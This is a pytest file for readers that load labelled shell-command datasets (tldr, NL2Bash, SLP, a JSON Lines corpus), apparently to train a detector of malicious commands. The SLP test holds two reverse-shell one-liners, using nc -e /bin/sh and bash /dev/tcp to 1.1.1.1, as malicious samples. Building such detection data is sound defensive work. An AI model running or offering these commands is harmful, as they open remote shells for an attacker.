"""tldr, NL2Bash, slp and the pre-extracted JSON Lines file, on tiny fake inputs."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from distilsec.data.readers import read_commands_jsonl, read_nl2bash, read_slp, read_tldr
from distilsec.data.skips import SkipCounter
from distilsec.errors import DataError

TAR_PAGE = """# tar

> Archiving utility.

- [c]reate an archive and write it to a [f]ile:

`tar cf {{path/to/target.tar}} {{path/to/file1}}`

- E[x]tract an archive:

`tar xf {{path/to/source.tar}}`
"""

DIR_PAGE = """# dir

- List the contents of the current directory:

`dir`

`  `
"""


def _add(tar: tarfile.TarFile, name: str, text: str) -> None:
    data = text.encode("utf-8")
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


@pytest.fixture
def tldr_tar(tmp_path: Path) -> Path:
    path = tmp_path / "tldr-pages.tar.xz"
    with tarfile.open(path, "w:xz") as tar:
        _add(tar, "LICENSE.md", "`not a page`\n")
        _add(tar, "pages/common/tar.md", TAR_PAGE)
        _add(tar, "pages/windows/dir.md", DIR_PAGE)
        _add(tar, "pages.fr/common/tar.md", TAR_PAGE.replace("Extract", "Extraire"))  # not English
    return path


def test_tldr_from_tar(tldr_tar: Path) -> None:
    skips = SkipCounter()
    got = list(read_tldr(tldr_tar, skips=skips))
    assert [e.text for e in got] == [
        "tar cf {{path/to/target.tar}} {{path/to/file1}}",
        "tar xf {{path/to/source.tar}}",
        "dir",
    ]
    assert [e.meta["description"] for e in got] == [
        "[c]reate an archive and write it to a [f]ile",
        "E[x]tract an archive",
        "List the contents of the current directory",
    ]
    assert [(e.group, e.platform) for e in got] == [("tar", "common"), ("tar", "common"), ("dir", "windows")]
    assert {(e.label, e.source) for e in got} == {("benign", "tldr")}
    assert skips.as_dict() == {"empty_text": 1}


def test_tldr_from_directory(tmp_path: Path) -> None:
    page = tmp_path / "tldr" / "pages" / "linux" / "tar.md"
    page.parent.mkdir(parents=True)
    page.write_text(TAR_PAGE)
    got = list(read_tldr(tmp_path / "tldr"))
    assert [(e.text, e.group, e.platform) for e in got][0] == (
        "tar cf {{path/to/target.tar}} {{path/to/file1}}",
        "tar",
        "linux",
    )
    assert len(got) == 2


def test_tldr_not_a_tar(tmp_path: Path) -> None:
    bogus = tmp_path / "tldr-pages.tar.xz"
    bogus.write_bytes(b"this is not an archive")
    with pytest.raises(DataError, match="tldr"):
        list(read_tldr(bogus))


def test_tldr_directory_without_pages(tmp_path: Path) -> None:
    with pytest.raises(DataError, match="pages"):
        read_tldr(tmp_path)


def test_nl2bash_with_descriptions(tmp_path: Path) -> None:
    bash = tmp_path / "nl2bash" / "data" / "bash"
    bash.mkdir(parents=True)
    (bash / "all.cm").write_text("find . -name '*.py'\n\n  du -sh /var/log  \n")
    (bash / "all.nl").write_text("Find python files\nnothing\nShow log size\n")
    skips = SkipCounter()
    got = list(read_nl2bash(tmp_path / "nl2bash", skips=skips))
    assert [(e.text, e.group, e.meta["description"]) for e in got] == [
        ("find . -name '*.py'", "find", "Find python files"),
        ("du -sh /var/log", "du", "Show log size"),
    ]
    assert {(e.label, e.platform, e.source) for e in got} == {("benign", "linux", "nl2bash")}
    assert skips.as_dict() == {"empty_text": 1}


def test_nl2bash_without_nl_file(tmp_path: Path) -> None:
    cm = tmp_path / "all.cm"
    cm.write_text("ls -la\n")
    got = list(read_nl2bash(cm))
    assert got[0].meta["description"] == ""


def test_slp_from_root_or_file(tmp_path: Path) -> None:
    data = tmp_path / "slp" / "data"
    data.mkdir(parents=True)
    (data / "malicious.cm").write_text("nc -e /bin/sh 1.1.1.1 4444\r\n   \nbash -i >& /dev/tcp/1.1.1.1/80 0>&1")
    skips = SkipCounter()
    got = list(read_slp(tmp_path / "slp", skips=skips))
    assert [(e.text, e.group) for e in got] == [
        ("nc -e /bin/sh 1.1.1.1 4444", "nc"),
        ("bash -i >& /dev/tcp/1.1.1.1/80 0>&1", "bash"),
    ]
    assert {(e.label, e.platform, e.source) for e in got} == {("malicious", "linux", "slp-malicious")}
    assert skips.as_dict() == {"empty_text": 1}
    assert len(list(read_slp(data / "malicious.cm"))) == 2


def test_commands_jsonl_keeps_upstream_id_and_meta(tmp_path: Path) -> None:
    path = tmp_path / "commands.jsonl.gz"
    records = [
        {
            "id": "abc123",
            "text": " whoami ",
            "label": "malicious",
            "source": "atomic-red-team",
            "group": "T1033",
            "platform": "windows",
            "technique": "T1033",
            "label_conflict": True,
        },
        {"text": "ls", "label": "benign", "source": "tldr", "group": "ls", "platform": "common"},
        {"text": "", "label": "benign"},
    ]
    lines = [json.dumps(r) for r in records] + ["{not json", "[1, 2]", ""]
    with gzip.open(path, "wt", encoding="utf-8") as fh:
        fh.write("\n".join(lines) + "\n")
    skips = SkipCounter()
    got = list(read_commands_jsonl(path, skips=skips))
    assert [e.text for e in got] == ["whoami", "ls"]
    assert got[0].id == "abc123"
    assert (got[0].group, got[0].platform, got[0].source) == ("T1033", "windows", "atomic-red-team")
    assert got[0].meta == {"technique": "T1033", "label_conflict": True}
    assert len(got[1].id) == 16  # derived when the record has none
    assert skips.as_dict() == {"empty_text": 1, "json_error": 1, "not_an_object": 1}
